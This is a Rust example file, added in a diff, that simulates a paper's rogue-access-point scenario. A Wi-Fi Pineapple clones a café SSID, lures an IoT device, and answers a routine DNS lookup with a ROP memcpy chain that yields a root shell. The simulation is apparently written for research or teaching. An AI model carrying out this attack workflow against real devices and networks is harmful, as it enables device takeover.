@@ -1,0 +1,72 @@
+//! The §III-D scenario end-to-end: a Wi-Fi Pineapple lures an IoT
+//! device and exploits it through an ordinary DNS lookup.
+//!
+//! ```text
+//! cargo run --example rogue_access_point
+//! ```
+
+use std::net::Ipv4Addr;
+
+use connman_lab::dns::{Name, RecordType};
+use connman_lab::exploit::{MaliciousDnsServer, RopMemcpyChain};
+use connman_lab::netsim::{
+    share, AccessPoint, ApConfig, DhcpConfig, HwAddr, RadioEnvironment, Ssid, WifiPineapple,
+};
+use connman_lab::{Arch, FirmwareKind, IotDevice, Lab, Protections};
+
+fn main() -> Result<(), Box<dyn std::error::Error>> {
+    println!("rogue access point demo (paper §III-D / Fig. 1)\n");
+    let protections = Protections::full();
+    let lab = Lab::new(FirmwareKind::OpenElec, Arch::Armv7).with_protections(protections);
+    let fw = lab.firmware().clone();
+
+    // -- Attacker preparation (their own bench, before going on-site) --
+    let target = lab.recon()?;
+    let payload = connman_lab::ExploitStrategy::build(&RopMemcpyChain::new(Arch::Armv7), &target)?;
+    println!("payload prepared: {payload}");
+
+    // -- The legitimate environment --
+    let mut env = RadioEnvironment::new();
+    let home_dns = Ipv4Addr::new(192, 168, 1, 53);
+    env.add_ap(AccessPoint::new(ApConfig {
+        ssid: Ssid::new("CoffeeShopWiFi"),
+        bssid: HwAddr::local(1),
+        signal_dbm: -58,
+        dhcp: DhcpConfig::new([192, 168, 1], home_dns),
+    }));
+    let mut upstream = MaliciousDnsServer::benign(Ipv4Addr::new(93, 184, 216, 34));
+    env.register_service(home_dns, share(move |p: &[u8]| upstream.handle(p)));
+
+    // -- The victim: a stock smart device --
+    let mut device = IotDevice::boot(
+        &fw,
+        protections,
+        0x1234,
+        HwAddr::local(0x42),
+        Ssid::new("CoffeeShopWiFi"),
+    );
+    device.reconnect(&mut env);
+    let ota = Name::parse("ota.vendor.example")?;
+    println!("device joins, resolves normally: {}", device.lookup(&mut env, &ota, RecordType::A));
+
+    // -- The Pineapple goes live --
+    let mut evil = MaliciousDnsServer::new(&payload)?;
+    let pineapple =
+        WifiPineapple::deploy(&mut env, &Ssid::new("CoffeeShopWiFi"), share(move |p: &[u8]| evil.handle(p)))
+            .expect("target ssid on air");
+    println!(
+        "\npineapple up: cloning {:?}, malicious DNS at {}",
+        pineapple.cloned_ssid().as_str(),
+        pineapple.dns_addr()
+    );
+    let hopped = device.reconnect(&mut env);
+    println!("device re-associates to the stronger signal: {hopped}");
+
+    // -- The next routine lookup is the end --
+    let telemetry = Name::parse("telemetry.vendor.example")?;
+    let outcome = device.lookup(&mut env, &telemetry, RecordType::A);
+    println!("device looks up telemetry host… {outcome}");
+    assert!(outcome.compromised(), "expected a root shell");
+    println!("\ndevice compromised with zero configuration changes on the victim.");
+    Ok(())
+}
